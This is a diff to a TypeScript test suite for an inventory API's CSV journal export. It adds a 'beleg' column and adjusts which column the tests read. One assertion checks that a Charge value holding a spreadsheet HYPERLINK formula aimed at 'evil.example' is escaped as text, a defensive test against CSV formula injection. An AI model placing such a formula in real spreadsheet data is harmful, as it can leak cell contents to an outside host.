@@ -419,6 +419,7 @@ describe.each(databaseKinds())('Leitstand Bestand on %s', (kind) => {
         charge: 'CH-43',
         mhd: null,
         benutzer: demo.passwordUser.name, // users[43 % 3]
+        beleg: null,
       });
       expect(page.weiter).toBeNull();
     });
@@ -503,7 +504,8 @@ describe.each(databaseKinds())('Leitstand Bestand on %s', (kind) => {
       expect(lines[0]).toBe(JOURNAL_CSV_COLUMNS.join(';'));
       const expected = await oracle({ articleId: id.article });
       expect(lines.length - 2).toBe(expected.length);
-      expect(lines.slice(1, -1).map((l) => Number(l.split(';').at(-1)))).toEqual(expected);
+      // The booking number, before the (here empty) Beleg: the last columns, after any quoted ';' in a Charge.
+      expect(lines.slice(1, -1).map((l) => Number(l.split(';').at(-2)))).toEqual(expected);
       // Row 7: Umlagerung J-02 → J-01? (from loc[3] = none): its Charge reads as text, not as a formula.
       const row7 = lines.find((l) => l.includes('HYPERLINK'));
       expect(row7).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1;""Klick"")"`);
@@ -520,7 +522,7 @@ describe.each(databaseKinds())('Leitstand Bestand on %s', (kind) => {
       const res = await get('/api/leitstand/journal.csv?lagerplatz=J-03&von=2031-04-01');
       const rows = res.body.slice(1).split('\r\n').slice(1, -1);
       expect(rows.length).toBe(2500);
-      const ids = rows.map((l) => Number(l.split(';').at(-1)));
+      const ids = rows.map((l) => Number(l.split(';').at(-2)));
       expect(new Set(ids).size).toBe(2500);
       expect(ids).toEqual(await oracle({ locationId: id.l3, from: '2031-03-31T22:00:00Z' }));
     });
